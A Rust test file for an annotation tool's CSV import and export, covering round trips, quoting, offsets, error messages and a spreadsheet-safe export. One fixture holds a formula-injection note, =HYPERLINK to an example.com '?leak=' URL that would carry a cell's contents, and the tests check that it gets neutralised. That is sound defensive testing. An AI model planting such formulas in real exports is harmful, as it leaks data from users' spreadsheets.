//! CSV, one row per annotation: export, the RFC 4180 reader, placement and rejections.

use annotator::model::formats::ImportPlan;
use annotator::model::formats::{self, csv};
use annotator::model::{CharOffset, CharSpan, Document, Label, Role, Store};
use proptest::prelude::*;

use crate::support::{
    annotations, article_sample, quote_at, small_document, span_of, store_of, unicode_sample, NOW,
};

const HEADER: &str = "document_id,annotation_id,label,start,end,quote,note,entity,date_value,\
                      date_normalized,date_modifier,source_ids,sources,target_ids,targets,\
                      when_ids,when,annotator";

fn plan_of(text: &str, doc: &Document) -> Result<ImportPlan, String> {
    formats::plan(csv::parse(text)?, doc)
}

/// Links without their ids, which CSV does not carry.
fn links(store: &Store) -> Vec<(String, String, Role)> {
    let mut links: Vec<_> = store
        .relations()
        .iter()
        .map(|r| (r.claim.clone(), r.other.clone(), r.role))
        .collect();
    links.sort();
    links
}

#[test]
fn round_trip_is_lossless_for_what_it_carries() {
    for (doc, store) in [unicode_sample(), article_sample()] {
        let first = csv::export(&doc, store.content());
        let plan = plan_of(&first, &doc).unwrap();
        assert_eq!(plan.report.exact, store.len(), "{}", doc.id);
        assert!(plan.content.orphans.is_empty());
        let back = store_of(plan);
        assert_eq!(annotations(&back), annotations(&store), "{}", doc.id);
        assert!(!store.relations().is_empty());
        assert_eq!(links(&back), links(&store), "{}", doc.id);
        let second = csv::export(&doc, back.content());
        assert_eq!(second, first, "{}", doc.id);
    }
}

#[test]
fn export_layout() {
    let (doc, store) = unicode_sample();
    let out = csv::export(&doc, store.content());
    assert!(
        out.starts_with(&format!("{HEADER}\r\n")),
        "no BOM, header first"
    );
    assert!(out.ends_with("\r\n"));
    // Every line break outside a note is CRLF; the one inside the quoted note stays as typed.
    assert_eq!(out.matches("\r\n").count(), store.len() + 1);
    assert_eq!(out.matches('\n').count(), store.len() + 2);
    assert!(out.contains(",\"Spelling checked\nagainst Le Monde\","));
    let claim = store.get("claim-1").unwrap();
    let row = format!(
        "unicode-sample,claim-1,claim,{},{},{},\"Paraphrase, not a “direct” quote 🧐\",,,,,\
         actor-1,Maria Zakharova,inner-1,Armenia 🇦🇲,date-1,2025-01-24,\"Ana “Ani” Petrova, 🦉\"\r\n",
        claim.span.start, claim.span.end, claim.quote
    );
    assert!(out.contains(&row), "{out}");
    let date = store.get("date-1").unwrap();
    assert!(out.contains(&format!(
        "unicode-sample,date-1,date,{},{},24 January 2025,,,,2025-01-24,,,,,,,,\"Ana “Ani” Petrova, 🦉\"\r\n",
        date.span.start, date.span.end
    )));
    // An unknown annotator (sample 4's): an empty last cell.
    let hand_set = store.get("date-4").unwrap();
    assert!(out.contains(&format!(
        "unicode-sample,date-4,date,{},{},27 يناير,,,2025-01-27,2025-01-27,,,,,,,,\r\n",
        hand_set.span.start, hand_set.span.end
    )));
    // The claim of sample 3 names its actor by text (no entity) and lists two links in order.
    let rows: Vec<&str> = out.split("\r\n").collect();
    let claim3 = rows.iter().find(|r| r.contains(",claim-3,")).unwrap();
    assert!(
        claim3.ends_with(",actor-3,外交部发言人毛宁,inner-3,China,date-3,2025-01-26,李 明"),
        "{claim3}"
    );
}

#[test]
fn computed_date_values_are_not_read_back_as_hand_set() {
    let (doc, store) = article_sample();
    let out = csv::export(&doc, store.content());
    assert!(out.contains(",January 24,,,,2025-01-24,,"), "{out}");
    let back = store_of(plan_of(&out, &doc).unwrap());
    assert_eq!(back.get("date-1").unwrap().date_value, None);
}

#[test]
fn offsets_are_code_points() {
    let (doc, store) = unicode_sample();
    let text = doc.index.text();
    let foreign = csv::parse(&csv::export(&doc, store.content())).unwrap();
    assert_eq!(foreign.text, None, "CSV carries no text");
    assert_eq!(foreign.drafts.len(), store.len());
    let mut told_apart = false;
    for draft in &foreign.drafts {
        let (start, end) = (draft.start.unwrap(), draft.end.unwrap());
        let quote = quote_at(text, CharSpan::at(start, end));
        assert_eq!(Some(quote), draft.quote, "{}", draft.place);
        let bytes = text.char_indices().nth(start).unwrap().0;
        let utf16: usize = text.chars().take(start).map(char::len_utf16).sum();
        told_apart |= bytes != start && utf16 != start;
    }
    assert!(told_apart, "the sample must tell the units apart");
}

#[test]
fn reads_reordered_columns_and_quoted_fields() {
    let doc = small_document();
    let file = "\u{feff}quote,End,label,start,note,annotation_id,source_ids,when_ids,extra\n\
                \"👩🏽‍💼 Maria Zakharova\",20,Actor,0,\"Said it twice, \"\"loudly\"\"\nand on TV\",m,,,x\n\
                talks with Armenia 🇦🇲 are difficult,76,CLAIM,41,,c,m,d,\n\
                Friday,35,date,29,\"\",d,,,\"a \"\"b\"\", c\"\n";
    for file in [file.to_owned(), file.replace('\n', "\r\n")] {
        let foreign = csv::parse(&file).unwrap();
        let places: Vec<&str> = foreign.drafts.iter().map(|d| d.place.as_str()).collect();
        assert_eq!(places, ["line 2", "line 4", "line 5"], "physical lines");
        let plan = formats::plan(foreign, &doc).unwrap();
        assert_eq!(plan.report.exact, 3);
        let store = store_of(plan);
        let actor = store.get("m").unwrap();
        assert_eq!(
            (actor.label, actor.span.start.0, actor.span.end.0),
            (Label::Actor, 0, 20)
        );
        let note = if file.contains('\r') {
            "Said it twice, \"loudly\"\r\nand on TV"
        } else {
            "Said it twice, \"loudly\"\nand on TV"
        };
        assert_eq!(actor.note, note);
        assert_eq!(
            store.get("c").unwrap().quote,
            "talks with Armenia 🇦🇲 are difficult"
        );
        assert_eq!(store.get("d").unwrap().span.start, CharOffset(29));
        assert_eq!(
            links(&store),
            [
                ("c".into(), "d".into(), Role::When),
                ("c".into(), "m".into(), Role::Source)
            ]
        );
    }
}

#[test]
fn reads_the_required_columns_alone() {
    let doc = small_document();
    // No ids (rows get "row-N"), an empty quote (placed by offsets), offsets left out
    // (placed by quote), and the wrong offsets for a quote found elsewhere.
    let file = "label,start,end,quote\r\nactor,0,20,\r\ndate,,,Friday\r\nclaim,0,35,talks with Armenia 🇦🇲 are difficult\r\n";
    let plan = plan_of(file, &doc).unwrap();
    assert_eq!(plan.report.exact, 1);
    assert_eq!(plan.report.moved, 2);
    let store = store_of(plan);
    assert_eq!(store.get("row-1").unwrap().quote, "👩🏽‍💼 Maria Zakharova");
    assert_eq!(store.get("row-2").unwrap().span.start, CharOffset(29));
    assert_eq!(store.get("row-3").unwrap().span.start, CharOffset(41));
}

#[test]
fn looks_like_only_its_header() {
    let (doc, store) = article_sample();
    assert!(csv::looks_like(&csv::export(&doc, store.content())));
    assert!(csv::looks_like(&format!("\u{feff}{HEADER}\n")));
    assert!(!csv::looks_like("label,start,end,quote\n"));
    assert!(!csv::looks_like(
        "claim_id,claim,sources,targets,dates,start,end\r\n"
    ));
    assert!(!csv::looks_like("{\"text\": \"a\", \"label\": []}"));
    assert!(!csv::looks_like(""));
}

fn error_of(text: &str) -> String {
    plan_of(text, &small_document()).expect_err("must be rejected")
}

#[test]
fn rejects_an_unterminated_quote_naming_its_line() {
    let message =
        error_of("label,start,end,quote\nactor,0,20,x\ndate,29,35,\"Friday\n\nclaim,41,76,x\n");
    assert_eq!(
        message,
        "line 3: the quoted field that starts here is never closed"
    );
    let message = error_of("label,start,end,quote\nactor,0,20,\"Maria\" Z\n");
    assert!(
        message.starts_with("line 2: “ ” after the closing quote"),
        "{message}"
    );
}

#[test]
fn rejects_a_missing_required_column() {
    for missing in ["label", "start", "end", "quote"] {
        let header: Vec<&str> = ["label", "start", "end", "quote", "note"]
            .into_iter()
            .filter(|c| *c != missing)
            .collect();
        let message = error_of(&format!("{}\nactor,0,20,x\n", header.join(",")));
        assert_eq!(
            message,
            format!(
                "line 1: the header has no \"{missing}\" column (needed: label, start, end, quote)"
            )
        );
    }
    let message = error_of("label,start,end,quote,Label\n");
    assert_eq!(
        message,
        "line 1: the header names the column \"label\" twice"
    );
    assert!(error_of("").contains("empty"));
    assert!(error_of("\r\n\r\n").contains("empty"));
}

#[test]
fn rejects_a_row_with_the_wrong_number_of_fields() {
    let message = error_of("label,start,end,quote\nactor,0,20,\"a,b\"\ndate,29,35\n");
    assert_eq!(message, "line 3: 3 fields, but the header has 4");
    let message = error_of("label,start,end,quote\nactor,0,20,x,\n");
    assert_eq!(message, "line 2: 5 fields, but the header has 4");
}

#[test]
fn rejects_bad_values_naming_the_line() {
    for (row, expected) in [
        (
            "actor,abc,20,x",
            "line 4: start \"abc\" is not a whole number",
        ),
        ("actor,0,-2,x", "line 4: end \"-2\" is not a whole number"),
        (
            "person,0,20,x",
            "line 4: unknown label \"person\" (expected actor, claim or date)",
        ),
        (
            "date,35,29,Friday",
            "line 4: start 35 must be smaller than end 29",
        ),
        ("actor,0,,x", "line 4: has a start or an end but not both"),
    ] {
        // The note on the first row spans two lines: messages count lines, not rows.
        let file = format!("label,start,end,quote,note\nclaim,41,76,x,\"two\nlines\"\n{row},\n");
        let message = error_of(&file);
        assert!(message.starts_with(expected), "{row}: {message}");
    }
}

#[test]
fn rejects_rows_of_several_documents_and_bad_links() {
    let message = error_of(
        "document_id,label,start,end,quote\na,actor,0,20,x\na,date,29,35,x\nb,claim,41,76,x\n",
    );
    assert!(
        message.starts_with("line 4: document_id \"b\" differs from \"a\" on line 2"),
        "{message}"
    );
    let message = error_of(
        "annotation_id,label,start,end,quote,source_ids\nm,actor,0,20,x,\nc,claim,41,76,x,m z\n",
    );
    assert_eq!(message, "line 3: there is no annotation \"z\"");
    let message = error_of(
        "annotation_id,label,start,end,quote,when_ids\nm,actor,0,20,x,\nc,claim,41,76,x,m\n",
    );
    assert_eq!(
        message,
        "line 3: a when link needs date, but \"m\" is actor"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn never_panics_on_any_text(text in "[a-z0-9,\"\r\n\u{feff}é🇦🇲 -]{0,120}") {
        let doc = small_document();
        let _ = csv::looks_like(&text);
        if let Ok(foreign) = csv::parse(&text) {
            let _ = formats::plan(foreign, &doc);
        }
        let with_header = format!("label,start,end,quote\n{text}");
        if let Ok(foreign) = csv::parse(&with_header) {
            let _ = formats::plan(foreign, &doc);
        }
    }

    #[test]
    fn never_panics_on_damaged_exports(cut in 0usize..3000, insert in "[,\"\r\n0-9a-z-]{0,3}") {
        let (doc, store) = unicode_sample();
        let out = csv::export(&doc, store.content());
        let mut at = cut.min(out.len());
        while !out.is_char_boundary(at) {
            at -= 1;
        }
        let damaged = format!("{}{insert}{}", &out[..at], &out[at..]);
        let _ = csv::looks_like(&damaged);
        if let Ok(foreign) = csv::parse(&damaged) {
            let _ = formats::plan(foreign, &doc);
        }
    }
}

/// Files written before the `date_modifier` column existed are read as before.
#[test]
fn reads_files_without_the_date_modifier_column() {
    let doc = small_document();
    let file = "document_id,annotation_id,label,start,end,quote,note,entity,date_value,\
                date_normalized,source_ids,sources,target_ids,targets,when_ids,when\r\n\
                small,d,date,29,35,Friday,,,2025-01-17,2025-01-17,,,,,,\r\n";
    let plan = plan_of(file, &doc).unwrap();
    assert_eq!(plan.report.exact, 1);
    let store = store_of(plan);
    assert_eq!(
        store.get("d").unwrap().date_value.as_deref(),
        Some("2025-01-17")
    );
    assert_eq!(
        store.get("d").unwrap().annotator,
        "",
        "no annotator column: unknown"
    );
}

/// Files written before the `annotator` column existed read as unknown; one with it, in any
/// column, gives the name back, and a spreadsheet's `'` before a name comes off again.
#[test]
fn the_annotator_column_is_read_when_present() {
    let doc = small_document();
    let before = "document_id,annotation_id,label,start,end,quote,note,entity,date_value,\
                  date_normalized,date_modifier,source_ids,sources,target_ids,targets,when_ids,\
                  when\r\n\
                  small,d,date,29,35,Friday,,,,2025-01-24,,,,,,,\r\n";
    let store = store_of(plan_of(before, &doc).unwrap());
    assert_eq!(store.get("d").unwrap().annotator, "");
    let moved = "annotator,label,start,end,quote\r\n\
                 \"Ada, Countess\",date,29,35,Friday\r\n\
                 ,actor,5,20,Maria Zakharova\r\n";
    let store = store_of(plan_of(moved, &doc).unwrap());
    assert_eq!(
        store.annotations()[0].annotator,
        "",
        "an empty cell: unknown"
    );
    assert_eq!(store.annotations()[1].annotator, "Ada, Countess");
    let mut formula = Store::new();
    formula.set_annotator("@ada");
    formula
        .add(
            &doc.index,
            "d".into(),
            Label::Date,
            span_of(&doc, "Friday"),
            NOW,
        )
        .unwrap();
    let for_sheets = csv::export_for_spreadsheets(&doc, formula.content());
    assert!(for_sheets.ends_with(",'@ada\r\n"), "{for_sheets}");
    let back = store_of(formats::plan(csv::parse_spreadsheet(&for_sheets).unwrap(), &doc).unwrap());
    assert_eq!(back.get("d").unwrap().annotator, "@ada");
}

/// A document whose quotes and notes a spreadsheet would run as formulas.
fn formula_sample() -> (Document, Store) {
    let doc = Document::new(
        "formulas",
        "Formulas",
        Some("2025-03-14"),
        "-5 percent, said the bank; +3 more, @home, plain words.",
    );
    let mut store = Store::new();
    for (id, needle, note) in [
        (
            "minus",
            "-5 percent",
            "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"click\")",
        ),
        ("plus", "+3 more", "'=already quoted by hand"),
        ("at", "@home", "\tstarts with a tab"),
        ("plain", "plain words", "'just an apostrophe"),
    ] {
        store
            .add(
                &doc.index,
                id.into(),
                Label::Actor,
                span_of(&doc, needle),
                NOW,
            )
            .unwrap();
        store.set_note(id, note, NOW).unwrap();
    }
    (doc, store)
}

/// Issue 13: `=HYPERLINK(…)` in a note ran in a spreadsheet. The CSV for programs keeps every
/// cell exact; the CSV for spreadsheets puts a `'` before each formula-like cell, and its
/// import takes exactly that `'` off again.
#[test]
fn the_spreadsheet_csv_neutralises_formulas_and_reads_back_exactly() {
    let (doc, store) = formula_sample();
    let exact = csv::export(&doc, store.content());
    assert!(exact.contains(",-5 percent,\"=HYPERLINK("), "{exact}");
    let for_sheets = csv::export_for_spreadsheets(&doc, store.content());
    assert!(
        for_sheets.contains(",'-5 percent,\"'=HYPERLINK(\"\"https://example.com/"),
        "{for_sheets}"
    );
    assert!(for_sheets.contains(",'+3 more,''=already quoted by hand,"));
    assert!(for_sheets.contains(",'@home,'\tstarts with a tab,"));
    assert!(
        for_sheets.contains(",plain words,'just an apostrophe,"),
        "a cell that is no formula stays as it is"
    );
    // No cell of the spreadsheet file starts a formula.
    for line in for_sheets.split("\r\n").skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{cell:?}");
        }
    }
    // Read as a plain CSV, the quotes differ from the text: the reason for its own reader.
    let plain = csv::parse(&for_sheets).unwrap();
    assert_eq!(plain.drafts[0].quote.as_deref(), Some("'-5 percent"));
    let back = store_of(formats::plan(csv::parse_spreadsheet(&for_sheets).unwrap(), &doc).unwrap());
    assert_eq!(annotations(&back), annotations(&store));
    assert_eq!(
        csv::export_for_spreadsheets(&doc, back.content()),
        for_sheets
    );
    assert_eq!(
        csv::spreadsheet_alterations(&doc, store.content()),
        ["3 quotes", "3 notes"]
    );
}

#[test]
fn the_spreadsheet_csv_is_its_own_menu_entry_and_file() {
    use annotator::model::formats::dispatch::{
        export, read_files, ExportFormat, Incoming, InputFile,
    };
    let (doc, store) = formula_sample();
    let file = export(ExportFormat::SpreadsheetCsv, &doc, store.content());
    assert_eq!(file.name, "formulas.spreadsheet.csv");
    assert_eq!(file.altered, ["3 quotes", "3 notes"]);
    assert!(export(ExportFormat::Csv, &doc, store.content())
        .altered
        .is_empty());
    let incoming = read_files(
        vec![InputFile {
            name: file.name.clone(),
            bytes: file.bytes.clone(),
        }],
        &doc,
    );
    let Ok(Incoming::Annotations { plan, format }) = incoming else {
        panic!("not read as annotations: {incoming:?}");
    };
    assert_eq!(format, ExportFormat::SpreadsheetCsv);
    assert_eq!(plan.report.exact, store.len());
}
